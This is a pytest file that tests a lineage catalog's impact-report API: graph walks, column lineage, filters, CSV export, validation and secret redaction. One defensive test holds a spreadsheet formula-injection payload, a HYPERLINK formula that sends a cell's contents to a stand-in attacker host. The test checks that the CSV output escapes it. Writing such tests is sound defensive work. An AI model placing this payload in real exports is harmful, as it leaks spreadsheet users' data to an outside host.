"""Issue 40 item 1: the impact report (/api/v1/impact), from a dataset and from a column,
downstream and upstream, JSON and CSV, bounded and filtered. Events go in through ingest
and are derived, end to end (ADR 0081)."""

import csv
import io
import uuid

import pytest

from catalog.models import Dataset, Job
from tests.api.project_fixtures import derive
from tests.catalog.conftest import at, dataset, facet, run_event

pytestmark = pytest.mark.django_db

NS = "postgres://db:5432"
OTHER = "s3://lake"
BUILD, DASH, PLANNED = ("etl", "build_revenue"), ("bi", "dashboard"), ("etl", "forecast")
RUNS = [str(uuid.UUID(int=n)) for n in range(300, 310)]
OWNED = {
    "ownership": facet(owners=[{"name": "team:finance", "type": "MAINTAINER"}]),
    "tags": facet(
        tags=[{"key": "pii", "value": "true"}, {"key": "gold", "value": "yes", "field": "amount"}]
    ),
}


def columns(**fields: tuple[str, str]) -> dict:
    return facet(
        fields={
            target: {"inputFields": [{"namespace": NS, "name": name, "field": field}]}
            for target, (name, field) in fields.items()
        }
    )


def job_event(job: tuple[str, str], seconds: float, inputs: list, outputs: list) -> dict:
    return {
        "eventTime": at(seconds),
        "producer": "https://example.com/test",
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/JobEvent",
        "job": {"namespace": job[0], "name": job[1], "facets": {}},
        "inputs": inputs,
        "outputs": outputs,
    }


@pytest.fixture(scope="module")
def _store_once(module_transaction) -> None:
    # Derived once for the module, not once per test: the tests read it, and what one writes
    # is rolled back to it (ADR 0113).
    with module_transaction():
        derive_store()


@pytest.fixture
def store(_store_once: None, db: None) -> None:
    """orders → build_revenue → revenue (total ← orders.amount) → dashboard → dash (s3);
    build_revenue's first run also wrote ``archive`` (its second did not: stale); a
    JobEvent declares forecast: orders → plan (declared only)."""


def derive_store() -> None:
    orders = dataset(NS, "orders", **OWNED)
    revenue = dataset(NS, "revenue", columnLineage=columns(total=("orders", "amount")))
    derive(
        run_event("START", 0, RUNS[0], BUILD, inputs=[orders]),
        run_event("COMPLETE", 10, RUNS[0], BUILD, [orders], [revenue, dataset(NS, "archive")]),
        run_event("START", 100, RUNS[1], BUILD, inputs=[orders]),
        run_event("COMPLETE", 110, RUNS[1], BUILD, [orders], [revenue]),
        run_event(
            "START",
            200,
            RUNS[2],
            DASH,
            [dataset(NS, "revenue")],
            [dataset(OTHER, "dash", columnLineage=columns(big=("revenue", "total")))],
        ),
        run_event("FAIL", 210, RUNS[2], DASH, [dataset(NS, "revenue")]),
        job_event(PLANNED, 300, [dataset(NS, "orders")], [dataset(NS, "plan")]),
    )


def ref(name: str, namespace: str = NS) -> str:
    return f"dataset:{Dataset.objects.for_alias(namespace, name).get().id}"


def job_ref(job: tuple[str, str]) -> str:
    return f"job:{Job.objects.get(namespace=job[0], name=job[1]).id}"


def impact(api, **params: str) -> dict:
    response = api.get("/api/v1/impact", params)
    assert response.status_code == 200, response.content
    return response.json()


def by_id(body: dict) -> dict[tuple[str, str], dict]:
    return {(item["id"], item["field"]): item for item in body["items"]}


def test_downstream_of_a_dataset_lists_datasets_and_jobs_with_their_path(api, store) -> None:
    body = impact(api, node=ref("orders"))
    items = by_id(body)
    assert set(items) == {
        (job_ref(BUILD), ""),
        (job_ref(PLANNED), ""),
        (ref("revenue"), ""),
        (ref("archive"), ""),
        (ref("plan"), ""),
        (job_ref(DASH), ""),
        (ref("dash", OTHER), ""),
    }
    summary = {key[0]: (item["depth"], item["path"]) for key, item in items.items()}
    assert summary == {
        job_ref(BUILD): (1, "current"),
        job_ref(PLANNED): (1, "declared"),
        ref("revenue"): (1, "current"),
        ref("archive"): (1, "stale"),  # the job's latest completed run no longer wrote it
        ref("plan"): (1, "declared"),
        job_ref(DASH): (2, "current"),  # a failed run only: its latest run decides
        ref("dash", OTHER): (2, "current"),
    }
    assert items[(job_ref(DASH), "")]["last_run_state"] == "FAIL"
    assert items[(ref("revenue"), "")]["via_jobs"] == [job_ref(BUILD)]
    assert items[(ref("revenue"), "")]["last_seen"] == at(110)
    assert [item["depth"] for item in body["items"]] == sorted(
        item["depth"] for item in body["items"]
    )
    assert (body["root"], body["direction"], body["truncated"], body["cut"]) == (
        ref("orders"),
        "downstream",
        False,
        {},
    )


def test_upstream_finds_where_a_dataset_comes_from_with_owners_and_tags(api, store) -> None:
    items = by_id(impact(api, node=ref("dash", OTHER), direction="upstream"))
    orders = items[(ref("orders"), "")]
    assert orders["depth"] == 2
    assert orders["owners"] == [
        {"name": "team:finance", "type": "MAINTAINER", "source": "producer"}
    ]
    # The column's tag is not the dataset's.
    assert orders["tags"] == [
        {"key": "pii", "value": "true", "field": "", "source": "producer", "origin": ""}
    ]
    assert (job_ref(PLANNED), "") not in items  # it writes plan, not on dash's way


def test_filters_choose_what_is_listed_and_the_walk_goes_on(api, store) -> None:
    listed = by_id(impact(api, node=ref("orders"), namespace=OTHER))
    assert set(listed) == {(ref("dash", OTHER), "")}  # reached through NS items left out
    stale = by_id(impact(api, node=ref("orders"), currency="stale"))
    assert set(stale) == {(ref("archive"), "")}
    shallow = impact(api, node=ref("orders"), depth="1")
    assert {item["depth"] for item in shallow["items"]} == {1}
    assert shallow["cut"]["depth"] == {"limit": 1, "nodes_with_more": [ref("revenue")]}
    observed = by_id(impact(api, node=ref("orders"), lineage="observed"))
    assert (ref("plan"), "") not in observed


def test_a_bound_cuts_the_report_and_says_so(api, store) -> None:
    body = impact(api, node=ref("orders"), max_items="2")
    assert len(body["items"]) == 2 and body["truncated"]
    assert body["cut"]["max_items"]["limit"] == 2
    assert body["cut"]["max_items"]["omitted_datasets"] == 2


def test_from_a_column_follows_column_lineage(api, store) -> None:
    body = impact(api, node=ref("orders"), field="amount")
    items = by_id(body)
    assert items[(ref("revenue"), "total")]["depth"] == 1
    assert items[(ref("revenue"), "total")]["path"] == "current"
    assert items[(ref("revenue"), "total")]["via_jobs"] == [job_ref(BUILD)]
    assert items[(ref("dash", OTHER), "big")]["depth"] == 2
    assert items[(ref("revenue"), "")]["type"] == "dataset"
    assert {item["type"] for item in body["items"]} == {"column", "dataset", "job"}
    upstream = by_id(impact(api, node=ref("dash", OTHER), field="big", direction="upstream"))
    assert upstream[(ref("orders"), "amount")]["depth"] == 2
    assert upstream[(ref("orders"), "amount")]["tags"] == [
        {"key": "gold", "value": "yes", "field": "amount", "source": "producer", "origin": ""}
    ]


def test_csv_streams_the_same_items(api, store) -> None:
    as_json = impact(api, node=ref("orders"))
    for response in (
        api.get("/api/v1/impact", {"node": ref("orders")}, HTTP_ACCEPT="text/csv"),
        api.get("/api/v1/impact", {"node": ref("orders"), "format": "csv"}),
    ):
        assert response.status_code == 200
        assert response.streaming and response["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [(row["id"], row["depth"], row["path"]) for row in rows] == [
            (item["id"], str(item["depth"]), item["path"]) for item in as_json["items"]
        ]
        assert rows[0]["owners"] == "" or rows[0]["type"] == "job"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(api) -> None:
    """A producer's name that a spreadsheet reads as a formula is written after an
    apostrophe in the CSV (ADR 0155); the JSON keeps the name as derived."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"orders")'
    tagged = {"tags": facet(tags=[{"key": "@owner", "value": "x"}])}
    derive(
        run_event(
            "COMPLETE",
            0,
            RUNS[6],
            BUILD,
            [dataset(NS, "plain")],
            [dataset(NS, formula, **tagged), dataset(NS, "-tmp"), dataset(NS, "a=b")],
        )
    )
    as_json = {item["name"] for item in impact(api, node=ref("plain"))["items"]}
    assert {formula, "-tmp", "a=b"} <= as_json
    response = api.get("/api/v1/impact", {"node": ref("plain")}, HTTP_ACCEPT="text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = {row["name"]: row for row in rows}
    assert {"'" + formula, "'-tmp", "a=b"} <= set(names)
    assert names["'" + formula]["tags"] == "'@owner=x"
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize(
    ("params", "status", "path"),
    [
        ({}, 400, "/node"),
        ({"node": "job:1"}, 400, "/node"),
        ({"node": "dataset:x"}, 400, "/node"),
        ({"node": "dataset:1", "depth": "99"}, 400, "/depth"),
        ({"node": "dataset:1", "currency": "fresh"}, 400, "/currency"),
        ({"node": "dataset:1", "max_items": "0"}, 400, "/max_items"),
        ({"node": "dataset:999999"}, 404, None),
    ],
)
def test_bad_parameters_are_problems(api, params, status, path) -> None:
    response = api.get("/api/v1/impact", params)
    assert response.status_code == status, response.content
    assert response["Content-Type"] == "application/problem+json"
    if path is not None:
        assert [error["path"] for error in response.json()["errors"]] == [path]


def test_an_unknown_column_is_404_also_in_csv(api, store) -> None:
    response = api.get(
        "/api/v1/impact", {"node": ref("orders"), "field": "nope"}, HTTP_ACCEPT="text/csv"
    )
    assert response.status_code == 404
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["status"] == 404


def test_secrets_in_owner_names_are_redacted(api) -> None:
    secret = {"ownership": facet(owners=[{"name": "postgres://bob:hunter2@db/x"}])}
    derive(
        run_event(
            "COMPLETE", 0, RUNS[5], BUILD, [dataset(NS, "src")], [dataset(NS, "out", **secret)]
        )
    )
    owners = by_id(impact(api, node=ref("src")))[(ref("out"), "")]["owners"]
    assert "hunter2" not in str(owners) and owners[0]["name"].startswith("postgres://bob:")


def test_queries_are_pinned(api, store, django_assert_num_queries) -> None:
    node = ref("orders")
    # The root exists, the walk, the job edges, their currency, the declared links, their
    # declarations, the datasets, the jobs with their last run state (nothing at the depth
    # bound: no query for what lies beyond it).
    with django_assert_num_queries(8):
        impact(api, node=node)


def test_csv_comes_in_chunks_of_rows_header_first() -> None:
    from catalog.lineage import impact as reports

    items = [reports.Item("dataset", n, 1, "current", None, name=f"t{n}") for n in range(1201)]
    chunks = list(reports.csv_chunks(reports.Report("dataset:1", "", "downstream", items, {})))
    assert len(chunks) == 3  # 500 rows a chunk (the header rides in the first)
    rows = list(csv.reader(io.StringIO("".join(chunks))))
    assert rows[0] == list(reports.CSV_COLUMNS) and len(rows) == 1202
    assert [row[3] for row in rows[1:]] == [f"t{n}" for n in range(1201)]
